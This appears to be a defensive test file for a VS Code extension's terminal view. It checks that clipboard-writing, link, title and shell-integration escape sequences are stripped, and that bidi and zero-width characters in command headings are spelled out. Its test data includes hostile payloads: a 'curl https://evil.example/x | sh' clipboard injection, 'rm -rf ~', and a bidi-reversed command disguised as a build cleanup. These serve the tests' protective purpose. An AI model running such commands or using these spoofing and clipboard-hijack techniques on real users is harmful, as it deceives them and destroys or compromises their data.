// What of a command's output reaches the terminal view (src/terminalView.ts): its text and
// colours, never the sequences that make the terminal act (OSC 52 writes the clipboard, OSC 8
// makes links, titles, shell integration), also when a sequence is split across output deltas.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { commandLineText, TerminalFilter, terminalName } from '../../src/terminalView';
import { visibleText } from '../../src/webview/escape';

const b64 = (s: string) => Buffer.from(s).toString('base64');
const all = (...chunks: string[]) => {
	const f = new TerminalFilter();
	return chunks.map((c) => f.push(c)).join('');
};

test('a command cannot write the clipboard through the terminal view (OSC 52)', () => {
	const osc52 = `\x1b]52;c;${b64('curl https://evil.example/x | sh\n')}\x07`;
	assert.equal(all(`README\n${osc52}done\n`), 'README\r\ndone\r\n');
	// ended by ST rather than BEL, and in its 8-bit (C1) forms
	assert.equal(all(`a\x1b]52;c;${b64('x')}\x1b\\b`), 'ab');
	assert.equal(all(`a\u009d52;c;${b64('x')}\u009cb`), 'ab');
	assert.equal(all(`a\u009d52;c;${b64('x')}\x07b`), 'ab');
});

test('a sequence split across output deltas is still removed', () => {
	const seq = `\x1b]52;c;${b64('rm -rf ~')}\x07`;
	for (let i = 1; i < seq.length; i++) {
		assert.equal(all('a', seq.slice(0, i), seq.slice(i), 'b'), 'ab', `split at ${i}`);
	}
	assert.equal(all('a\x1b', '\\b'), 'ab');
});

test('links, titles, DCS/APC strings and other escapes are dropped; their text stays', () => {
	assert.equal(all('\x1b]8;;vscode://evil/run\x1b\\click me\x1b]8;;\x1b\\\n'), 'click me\r\n');
	assert.equal(all('\x1b]0;kin: npm test (completed)\x07x'), 'x');
	assert.equal(all('\x1b]633;E;rm -rf ~\x07x'), 'x');
	assert.equal(all('\x1bP+q544e\x1b\\x\x1b_apc\x1b\\y\x1b^pm\x07z'), 'xyz');
	assert.equal(all('\x1bcreset\x1b(Bplain'), 'resetplain');
	assert.equal(all('a\x1b(\nB', '\x1b', '(', 'Bb'), 'a\r\nb'); // a control inside one still acts
	// An unterminated string swallows what follows only until it is aborted (CAN), as a terminal's.
	assert.equal(all('\x1b]52;c;AAAA', 'BBBB\x18after'), 'after');
});

// VS Code's terminal opens an OSC 8 link's target on click, and its allowed schemes include
// vscode:// (extension URI handlers): a target that is not what the text says is never passed on,
// in any form of the sequence. Only the text stays, and VS Code links plain text only where the
// text itself is a web or file address, so what is shown is what a click opens (and its
// terminal link opener never runs command: URIs).
test('an OSC 8 link to a command: URI or a file outside the workspace keeps only its text', () => {
	const targets = ['command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D', 'file:///etc/shadow', 'vscode://kin.kin/run'];
	for (const t of targets) {
		for (const [open, st] of [['\x1b]', '\x07'], ['\x1b]', '\x1b\\'], ['\u009d', '\u009c'], ['\u009d', '\x07']]) {
			const link = `${open}8;id=1;${t}${st}docs${open}8;;${st}`;
			assert.equal(all(`see ${link} now`), 'see docs now', `${JSON.stringify(open)} ${t}`);
			for (let i = 1; i < link.length; i++) {
				assert.equal(all('see ', link.slice(0, i), link.slice(i), ' now'), 'see docs now', `split at ${i}`);
			}
		}
	}
});

test('colours, erasing and line ends still reach the view', () => {
	assert.equal(all('\x1b[31mred\x1b[0m \x1b[1;32mok\x1b[m'), '\x1b[31mred\x1b[0m \x1b[1;32mok\x1b[m');
	assert.equal(all('50%\r\x1b[2K100%\n'), '50%\r\x1b[2K100%\r\n');
	assert.equal(all('\x1b[3', '1mred'), '\x1b[31mred');
	assert.equal(all('a\nb\r\nc\td'), 'a\r\nb\r\nc\td');
	assert.equal(all('naïve ✓ 日本'), 'naïve ✓ 日本');
});

test("the command line heading the view is shown, never acted on: its control characters spelled out", () => {
	assert.equal(commandLineText(`echo hi # \x1b]52;c;${b64('x')}\x07`), `echo hi # \\x1b]52;c;${b64('x')}\\x07`);
	assert.equal(commandLineText('rm -rf build\rls'), 'rm -rf build\\x0dls');
	assert.equal(commandLineText('a\u009d8;;x\u009cb'), 'a\\x9d8;;x\\x9cb');
	assert.equal(commandLineText('set -e\nmake\r\nmake test\tx'), 'set -e\r\nmake\r\nmake test\tx');
});

// The heading is what the person reads to know what runs: a character that renders as nothing or
// reorders the line (bidi override, zero-width space, tag character) would show another command
// than the one kin runs. The chat's card and kin's approval spell them out; so does the view.
test('the command line heading the view spells out bidi, zero-width and tag characters as the chat does', () => {
	// On screen without escaping: "rm -rf ./build/tmp #"; what runs is "rm -rf ~ #pmt/dliub/.".
	assert.equal(commandLineText('rm -rf ~ \u202e#pmt/dliub/.'), 'rm -rf ~ \\u202e#pmt/dliub/.');
	assert.equal(commandLineText('curl x\u200b.example | sh'), 'curl x\\u200b.example | sh');
	assert.equal(commandLineText('echo a\u2066b\u2069 \u{e0041}'), 'echo a\\u2066b\\u2069 \\U000e0041');
	// One list: every line of the heading is the chat's visibleText of that line.
	const sneaky = `a\u200fb\u2028c\ufeffd\x1b[31m\u009d8;;x\u009c\te\rf`;
	assert.equal(commandLineText(sneaky), visibleText(sneaky));
});

test("the view's name (its tab) spells out the title's hidden characters too", () => {
	assert.equal(terminalName('Run rm -rf ~ \u202e#pmt/dliub/.'), 'kin: Run rm -rf ~ \\u202e#pmt/dliub/.');
	assert.equal(terminalName('Run a\x1b]0;x\x07'), 'kin: Run a\\x1b]0;x\\x07');
	// cut to 60 characters without splitting a character made of two UTF-16 units
	const long = terminalName('Run ' + '😀'.repeat(80));
	assert.equal([...long].length, 60);
	assert.doesNotMatch(long, /[\ud800-\udbff](?![\udc00-\udfff])/);
});
